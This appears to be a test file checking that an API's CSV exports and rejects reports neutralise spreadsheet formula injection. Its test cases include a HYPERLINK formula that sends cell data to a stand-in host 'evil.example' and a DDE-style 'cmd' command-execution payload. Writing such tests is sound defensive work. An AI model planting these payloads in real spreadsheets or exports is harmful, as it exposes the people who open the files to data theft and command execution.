import t from 'tap'
import { neutraliseFormula } from '../../src/lib/csv.js'
import { bearer, buildTestApp, createTenant } from '../helper.js'
import { dataCounts, upload } from '../domains/imports/helper.js'

t.test('a formula-leading cell gets an apostrophe; a plain number and ordinary text stay as they are', async (t) => {
  const cases: [string, string][] = [
    ['=HYPERLINK("http://evil.example/?"&A1,"click")', '\'=HYPERLINK("http://evil.example/?"&A1,"click")'],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['+cmd|\' /C calc\'!A0', '\'+cmd|\' /C calc\'!A0'],
    ['-2+3', "'-2+3"],
    ['\tcmd', "'\tcmd"],
    ['\rcmd', "'\rcmd"],
    ['\ncmd', "'\ncmd"],
    ['   =1+1', "'   =1+1"],
    ['\u00a0@x', "'\u00a0@x"],
    ['＝1+1', "'＝1+1"],
    ['＋1', "'＋1"],
    ['－1', "'－1"],
    ['＠SUM(1)', "'＠SUM(1)"],
    ['-12', '-12'],
    ['+3.5', '+3.5'],
    ['-1e3', '-1e3'],
    ['-.5', '-.5'],
    ['plain text', 'plain text'],
    ['a=b', 'a=b'],
    ['', '']
  ]
  for (const [input, output] of cases) t.equal(neutraliseFormula(input), output, JSON.stringify(input))
})

t.test('spreadsheet-safe CSV downloads', async (t) => {
  const app = await buildTestApp(t)
  const tenant = await createTenant(app)
  const get = (url: string) => app.inject({ method: 'GET', url, headers: bearer(tenant.keys.manager) })
  const post = (url: string, payload: object) => app.inject({ method: 'POST', url, payload, headers: bearer(tenant.keys.manager) })

  t.test('the interactions export neutralises agent names, sentiments, topics and imported channel names', async (t) => {
    const imported = await upload(app, tenant.keys.admin, {
      name: 'channels.csv', content: 'Date Start,Interaction,Customers\r\n2020-01-01,=cmd|x,1\r\n2020-01-02,＠Evil,2\r\n'
    })
    t.equal(imported.statusCode, 201)
    const channels = new Map<string, string>((await get('/api/v1/engagements?limit=100')).json().data.map((e: { name: string, id: string }) => [e.name, e.id]))
    t.same([...channels.keys()], ['=cmd|x', '＠evil'])
    const engagementId = channels.get('=cmd|x') as string
    for (const [agentName, sentiment, topic] of [['=HYPERLINK("http://x","y")', '@SUM(A1)', '+1+1'], ['-42', 'Neutral', '-2+3']]) {
      const res = await post('/api/v1/interactions', {
        engagementId, customerId: 3, agentName, sentiment, topics: [topic], interactionDate: agentName === '-42' ? '2020-03-01T00:00:00Z' : '2020-03-02T00:00:00Z'
      })
      t.equal(res.statusCode, 201)
    }
    const before = await dataCounts(app, tenant.id)
    const res = await get('/api/v1/interactions/export?format=csv')
    t.equal(res.statusCode, 200)
    const lines = res.body.split('\r\n')
    t.equal(lines.length, 6, 'header, four interactions and the final line break')
    const cells = lines.slice(1, 5).map((line) => line.replace(/^[0-9a-f]{24},[0-9a-f]{24},/, ''))
    t.same(cells, [
      '\'=cmd|x,3,"\'=HYPERLINK(""http://x"",""y"")",,2020-03-02T00:00:00.000Z,\'@SUM(A1),\'+1+1,{}',
      '\'=cmd|x,3,-42,,2020-03-01T00:00:00.000Z,Neutral,\'-2+3,{}',
      '\'＠evil,2,,,2020-01-02T00:00:00.000Z,,,"{""Date Start"":""2020-01-02"",""Interaction"":""＠evil"",""Customers"":2}"',
      '\'=cmd|x,1,,,2020-01-01T00:00:00.000Z,,,"{""Date Start"":""2020-01-01"",""Interaction"":""=cmd|x"",""Customers"":1}"'
    ])
    t.same(await dataCounts(app, tenant.id), before, 'an export changes nothing')
  })

  t.test('the NDJSON export keeps values exactly as stored (JSON is not run by spreadsheets)', async (t) => {
    const rows = (await get('/api/v1/interactions/export?agentName=-42')).body.trim().split('\n').map((line) => JSON.parse(line))
    t.same(rows.map((row: { agentName: string, topics: string[] }) => [row.agentName, row.topics]), [['-42', ['-2+3']]])
  })

  t.test('rejects.csv neutralises the file name, the values and never breaks a cell on a separator', async (t) => {
    const res = await upload(app, tenant.keys.admin, {
      name: '=1+1.csv', content: 'Date Start,Interaction,Customers\r\n@SUM(1),Email,1\r\n2020-01-01,Email,=2+2\r\n2020-01-01,Email,-5\r\n2020-01-01,Email,"a;=3"\r\n'
    })
    t.equal(res.statusCode, 201)
    const report = res.json()
    t.equal(report.rejectsTotal, 4)
    t.same(report.rejects.map((reject: { value: string }) => reject.value), ['@SUM(1)', '=2+2', '-5', 'a;=3'], 'the JSON report keeps the values as read')
    const csv = await get(`/api/v1/imports/${report.id}/rejects.csv`)
    t.equal(csv.headers['content-type'], 'text/csv; charset=utf-8')
    t.same(csv.body.split('\r\n'), [
      'sheet,row,column,value,reason',
      '\'=1+1.csv,2,Date Start,\'@SUM(1),"""@SUM(1)"" is not a date (expected DD/MM/YYYY [HH:MM], ISO 8601 or an Excel serial)"',
      '\'=1+1.csv,3,Customers,\'=2+2,"""=2+2"" is not a whole number"',
      '\'=1+1.csv,4,Customers,-5,"""-5"" is not a whole number"',
      '\'=1+1.csv,5,Customers,"a;=3","""a;=3"" is not a whole number"',
      ''
    ])
  })
})
